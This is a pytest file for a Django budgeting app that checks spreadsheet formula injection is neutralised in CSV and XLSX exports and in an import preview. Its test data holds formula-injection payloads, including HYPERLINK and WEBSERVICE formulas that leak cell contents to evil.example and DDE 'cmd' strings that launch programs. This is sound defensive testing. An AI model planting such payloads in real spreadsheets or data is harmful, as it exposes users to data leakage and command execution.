"""Spreadsheet formula injection (issue 15.2): hostile names travel into every export as text, never as formulas.

A team, a period, a category, a campaign, a workflow, a vendor and an
inactive person are named like formulas (``=HYPERLINK(...)``, ``@SUM(...)``,
``+cmd|...``, ``-2+3...``, a leading tab or carriage return). Every report,
in every grouping, is exported as CSV in both dialects and as XLSX, and every
cell is checked: text a spreadsheet would evaluate carries the neutralising
quote (CSV) or is a quote-prefixed string (XLSX); numbers — a negative
variance among them — stay numbers. The import pages are followed end to
end: a hostile accounting file is previewed (HTML, escaped), confirmed, and
its lines exported.
"""

import csv
import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from django.utils import timezone, translation

from accounts.models import User
from approvals.choices import RequestStatus, StageStatus, SubjectKind
from approvals.models import ApprovalRequest, StageState
from budgets.choices import ActualLineStatus, FundingRequestStatus
from budgets.models import ActualLine, FundingRequest, ImportBatch
from campaigns.choices import CampaignStatus, KPIMetric
from reports import exports
from reports.registry import all_reports
from tests.approvals.factories import StageFactory, WorkflowTemplateFactory
from tests.budgets.factories import (
    BudgetAllocationFactory,
    ExpenseCategoryFactory,
    ExpenseFactory,
    FiscalPeriodFactory,
    FiscalYearFactory,
    FundingRequestFactory,
    ImportSourceFactory,
)
from tests.campaigns.factories import CampaignFactory, KPIFactory
from tests.factories import TeamFactory, UserFactory

pytestmark = pytest.mark.django_db

TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"Brand")'
PERIOD = "@SUM(1+1)*cmd|' /C calc'!A0"
CATEGORY_CODE = "+1+cmd|' /C calc'!A0"
CAMPAIGN = "-2+3+cmd|' /C calc'!A0"
WORKFLOW = "\t=1+1"
STAGE = "\r=2+2"  # read back from XLSX as "\n=2+2": XML turns a bare carriage return into a line feed
VENDOR = '=WEBSERVICE("http://evil.example/"&A2)'
DOCUMENT = "@SUM(A1:A9)"
HOLDER = "=cmd|'/C notepad'!A1"
PAYLOADS = {TEAM, PERIOD, CATEGORY_CODE, CAMPAIGN, WORKFLOW, STAGE, VENDOR, DOCUMENT, HOLDER}
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")
#: What OWASP says a spreadsheet evaluates (and a line feed, a carriage return read back from XML).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_START)


@pytest.fixture
def hostile_world(db):
    """Names chosen to run in a spreadsheet; an overspent cell, so that a variance is negative."""
    team = TeamFactory(name=TEAM, slug="hostile")
    period = FiscalPeriodFactory(year=FiscalYearFactory(), name=PERIOD)
    category = ExpenseCategoryFactory(code=CATEGORY_CODE, name="Search", name_ru="Поиск")
    BudgetAllocationFactory(period=period, team=team, category=category, amount=Decimal("1000.00"))
    gone = UserFactory(username="gone", display_name=HOLDER, roles=["approver"])
    owner = UserFactory(username="hostile-owner", roles=["marketer"], teams=[team])
    campaign = CampaignFactory(
        code=CAMPAIGN, name="Spring", team=team, owner=owner, sponsor=gone, status=CampaignStatus.ACTIVE
    )
    request = FundingRequestFactory(
        campaign=campaign,
        category=category,
        period=period,
        amount=Decimal("5000.00"),
        status=FundingRequestStatus.APPROVED,
        approved_amount=Decimal("5000.00"),
    )
    ExpenseFactory(funding_request=request, amount=Decimal("4000.00"), vendor=VENDOR, date=datetime.date(2027, 2, 1))
    KPIFactory(campaign=campaign, metric=KPIMetric.REVENUE, actual=Decimal("100"))
    KPIFactory(campaign=campaign, metric=KPIMetric.LEADS, actual=Decimal("3"))
    User.objects.filter(pk=gone.pk).update(is_active=False)  # deactivated around MRM, e.g. by a directory sync
    template = WorkflowTemplateFactory(name=WORKFLOW, subject_kind=SubjectKind.FUNDING_REQUEST)
    stage = StageFactory(template=template, name=STAGE)
    approval = ApprovalRequest.objects.create(
        template=template,
        subject_kind=SubjectKind.FUNDING_REQUEST,
        content_type=ContentType.objects.get_for_model(FundingRequest),
        object_id=request.pk,
        subject_title=request.number,
        submitted_by=owner,
        status=RequestStatus.IN_PROGRESS,
    )
    started = timezone.now() - datetime.timedelta(days=3)
    StageState.objects.create(
        request=approval,
        stage=stage,
        order=1,
        name=STAGE,
        status=StageStatus.IN_PROGRESS,
        started_at=started,
        due_at=started + datetime.timedelta(days=1),
    )
    batch = ImportBatch.objects.create(
        kind="actuals", file_name="a.csv", content=b"", sha256="1" * 64, uploaded_by=owner
    )
    ActualLine.objects.create(
        source=ImportSourceFactory(),
        batch=batch,
        line_number=2,
        date=datetime.date(2027, 2, 3),
        document_number=DOCUMENT,
        vendor=VENDOR,
        amount=Decimal("-1234.50"),
        status=ActualLineStatus.UNMAPPED,
        fingerprint="hostile",
    )
    return {"team": team}


def every_export(user):
    """(report slug, grouping, params) for every report the user may open, in every grouping it offers."""
    for report in all_reports():
        if not report.available_to(user):
            continue
        field = report.form_class.base_fields.get("group_by")
        groupings = [value for value, _label in field.choices if value] if field is not None else [""]
        for grouping in groupings:
            yield report, ({"group_by": grouping} if grouping else {})


def csv_cells(content: bytes, delimiter: str) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def test_no_export_carries_a_formula_and_numbers_stay_numbers(hostile_world, admin_user):
    # given an administrator (every report is open to them) and the hostile world
    csv_seen, xlsx_seen, negative_numbers = set(), set(), 0
    for language in ("en", "ru"):
        with translation.override(language):
            for report, params in every_export(admin_user):
                result = report.run(admin_user, params)
                # when each report is exported as CSV in both dialects
                for dialect in ("ru", "en"):
                    delimiter = ";" if dialect == "ru" else ","
                    for cell in csv_cells(exports.render_csv(result, dialect=dialect), delimiter):
                        # then no cell starts a formula, unless it is a number
                        if is_formula_like(cell):
                            assert NUMBER.match(cell), f"{report.slug} {params}: CSV cell {cell!r} would be evaluated"
                            negative_numbers += 1
                        csv_seen.add(cell)
                # and as XLSX
                workbook = openpyxl.load_workbook(io.BytesIO(exports.render_xlsx(result)))
                for sheet in workbook.worksheets:
                    for row in sheet.iter_rows():
                        for cell in row:
                            # then no cell is a formula; a text cell that looks like one is a quote-prefixed string
                            assert cell.data_type != "f", f"{report.slug}: {cell.coordinate} is a formula"
                            if isinstance(cell.value, str) and is_formula_like(cell.value):
                                assert cell.data_type == "s" and cell.quotePrefix, f"{report.slug}: {cell.value!r}"
                                xlsx_seen.add(cell.value)
                            if isinstance(cell.value, (int, float)) and cell.value < 0:
                                negative_numbers += 1
    # and every hostile name reached the files, neutralised: CSV with a leading quote, XLSX as it is
    for payload in PAYLOADS:
        assert any(cell.startswith(f"'{payload}") for cell in csv_seen), f"{payload!r} is in no CSV"
    for payload in PAYLOADS:
        assert any(value.startswith(payload.replace("\r", "\n")) for value in xlsx_seen), f"{payload!r} is in no XLSX"
    # and the overspending (variance −4 000, remaining −4 000, the refund −1 234.50) stayed numeric
    assert negative_numbers > 0


def test_an_import_preview_shows_hostile_text_as_text_and_its_lines_export_neutralised(
    client, finance_user, django_capture_on_commit_callbacks
):
    # given finance uploads an accounting export whose vendor and document are formulas
    source = ImportSourceFactory(name="Hostile 1C", encoding="utf-8")
    content = (
        "Дата;Номер документа;Контрагент;Сумма;Счет;Статья;Комментарий\n"
        '03.02.2027;"@SUM(A1:A9)";"=HYPERLINK(""http://evil.example"",""Click"")";-1 500,00;44.01.1;Реклама;<b>x</b>\n'
    ).encode()
    client.force_login(finance_user)
    upload = io.BytesIO(content)
    upload.name = "hostile.csv"
    with django_capture_on_commit_callbacks(execute=True):  # the import job runs in-process after the commit
        response = client.post(
            reverse("budgets:import_upload", args=["actuals"]), {"source": source.pk, "file": upload}
        )
    assert response.status_code == 302
    # when the dry run is shown
    preview = client.get(response["Location"]).content.decode()
    # then the hostile text is shown as escaped text in the page (no markup, nothing evaluated)
    assert "=HYPERLINK(&quot;http://evil.example&quot;,&quot;Click&quot;)" in preview
    assert "<b>x</b>" not in preview
    # when it is confirmed and the spend without a request is exported from the page
    with django_capture_on_commit_callbacks(execute=True):
        client.post(response["Location"] + "apply/")
    assert ActualLine.objects.get().vendor == '=HYPERLINK("http://evil.example","Click")'
    url = reverse("reports:export", args=["spend-without-request"])
    csv_body = client.post(url, {"format": "csv", "dialect": "ru"}).content
    xlsx_body = client.post(url, {"format": "xlsx"}).content
    # then the CSV row holds the vendor and document behind a quote, the refund as a negative number
    rows = list(csv.reader(io.StringIO(csv_body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[6][1:3] == ["'@SUM(A1:A9)", '\'=HYPERLINK("http://evil.example","Click")']
    assert rows[6][-1] == "-1500,00"
    # and the XLSX holds them as quote-prefixed strings, the amount as a number
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_body)).active
    vendor = sheet["C7"]
    assert vendor.value == '=HYPERLINK("http://evil.example","Click")' and vendor.data_type == "s"
    assert vendor.quotePrefix and sheet["B7"].quotePrefix
    assert sheet["F7"].value == -1500 and sheet["F7"].data_type == "n"
